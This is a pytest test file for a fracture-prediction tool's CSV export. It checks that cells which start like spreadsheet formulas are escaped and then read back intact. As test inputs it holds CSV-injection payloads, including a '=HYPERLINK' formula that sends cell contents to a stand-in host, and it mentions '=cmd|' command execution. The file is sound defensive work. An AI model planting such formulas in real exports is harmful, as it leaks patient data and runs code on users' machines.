"""`fracture predict`'s CSV opened in a spreadsheet: a file name, or a note carrying a DICOM value,
that starts like a formula is shown as text, never run (OWASP's CSV Injection), and reads back as it was."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

#: Cells a spreadsheet runs as formulas when they are written as they are.
FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1+2", "\r=1+2"]


class StandIn:
    """The model's Python: every file 0.25, its note what a DICOM header could make it say."""

    def __init__(self, note: str = "") -> None:
        self.note = note

    def predict(self, frame, params=None):
        return pd.DataFrame({"fracture_probability": 0.25, "label": "not_fractured", "note": self.note, "error": ""},
                            index=range(len(frame)))

    def close(self) -> None:
        pass


@pytest.fixture
def stand_in(monkeypatch):
    import fracture.predict as predict_module
    from fracture.intake import InputPolicy

    def install(note: str = "") -> None:
        loaded = predict_module.LoadedModel("models:/m/1", "m", "1", StandIn(note), InputPolicy(), 0.5, "r1")
        monkeypatch.setattr(predict_module, "load", lambda uri: loaded)

    return install


def cells(text: str) -> list[dict[str, str]]:
    """The CSV's cells as a spreadsheet gets them: its text between the separators, quotes removed."""
    return list(csv.DictReader(io.StringIO(text)))


def test_a_file_name_or_note_that_starts_like_a_formula_is_written_as_text(tmp_path, monkeypatch, stand_in, capsys):
    """A file named ``=1+2`` in the folder scored (as ``.``), or a note quoting a DICOM value, was
    written as it is: a clinician opening the CSV ran it as a formula (``=HYPERLINK`` to anywhere,
    ``=cmd|...`` on old Excel). Each text cell starting like one now has an apostrophe before it, and
    every text cell is quoted; the numbers are as they were."""
    from fracture.cli import main

    stand_in("=HYPERLINK(\"http://example.invalid/?\"&A1,\"details\")")
    names = ["=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1+2", "'=1+2", "plain"]
    (tmp_path / "export").mkdir()
    for name in names:
        (tmp_path / "export" / name).write_bytes(b"x" * 10)
    monkeypatch.chdir(tmp_path / "export")
    main(["predict", ".", "--out", str(tmp_path / "rows.csv"), "--no-progress"])
    rows = cells((tmp_path / "rows.csv").read_text())
    assert [row["id"] for row in rows] == [f"'{n}" if n != "plain" else n for n in sorted(names)]
    assert {row["note"] for row in rows} == {"'=HYPERLINK(\"http://example.invalid/?\"&A1,\"details\")"}
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(tuple("=+-@\t\r")), (column, value)
    assert [row["fracture_probability"] for row in rows] == ["0.25"] * len(names)
    # Every text cell in double quotes: a spreadsheet splitting on ';' keeps 'a;=1+2' one cell.
    assert (tmp_path / "rows.csv").read_text().splitlines()[1].startswith('"')

    main(["predict", ".", "--no-progress"])  # CSV on stdout, redirected to a file by a scheduler
    stdout = cells(capsys.readouterr().out)
    assert [row["id"] for row in stdout] == [row["id"] for row in rows]


def test_the_rows_read_back_as_they_were_scored(tmp_path, monkeypatch, stand_in):
    """The apostrophe is the spreadsheet's, not the row's: read_rows gives each value back, an id that
    starts with an apostrophe of its own included, and JSON holds every value as it is."""
    from fracture.cli import main
    from fracture.predict import read_rows

    stand_in("-3 dB: a note")
    names = [*FORMULAS[:4], "'=1+2", "''x", "plain"]
    (tmp_path / "export").mkdir()
    for name in names:
        (tmp_path / "export" / name).write_bytes(b"x" * 10)
    monkeypatch.chdir(tmp_path / "export")
    main(["predict", ".", "--out", str(tmp_path / "rows.csv"), "--no-progress"])
    main(["predict", ".", "--out", str(tmp_path / "rows.json"), "--no-progress"])
    rows = read_rows(tmp_path / "rows.csv")
    assert rows["id"].tolist() == sorted(names)
    assert (rows["note"] == "-3 dB: a note").all() and (rows["fracture_probability"] == 0.25).all()
    assert rows["threshold"].tolist() == [0.5] * len(names) and rows["version"].tolist() == ["1"] * len(names)
    records = json.loads((tmp_path / "rows.json").read_text())
    assert [r["id"] for r in records] == rows["id"].tolist() and records[0]["note"] == "-3 dB: a note"
    pd.testing.assert_frame_equal(read_rows(tmp_path / "rows.json"), rows, check_dtype=False)


def test_a_row_not_scored_reads_back_empty_and_nan(tmp_path):
    from fracture.predict import COLUMNS, read_rows, write

    table = pd.DataFrame({
        "id": ["-a.jpg", "b.jpg"], "fracture_probability": [0.898809015750885, float("nan")],
        "label": ["fractured", ""], "threshold": [0.30000000000000004] * 2, "model": "m", "version": "3",
        "error": ["", "=the image is empty"], "note": ["+", ""],
    })
    write(table, tmp_path / "rows.csv")
    rows = read_rows(tmp_path / "rows.csv")
    assert list(rows.columns) == COLUMNS
    assert rows["fracture_probability"][0] == 0.898809015750885 and pd.isna(rows["fracture_probability"][1])
    assert rows["id"].tolist() == ["-a.jpg", "b.jpg"] and rows["error"].tolist() == ["", "=the image is empty"]
    assert rows["note"].tolist() == ["+", ""] and rows["label"].tolist() == ["fractured", ""]
    # A reader that does not know the rule (pandas as it is) still gets every number.
    plain = pd.read_csv(tmp_path / "rows.csv")
    assert plain["fracture_probability"][0] == 0.898809015750885 and plain["threshold"][1] == 0.30000000000000004
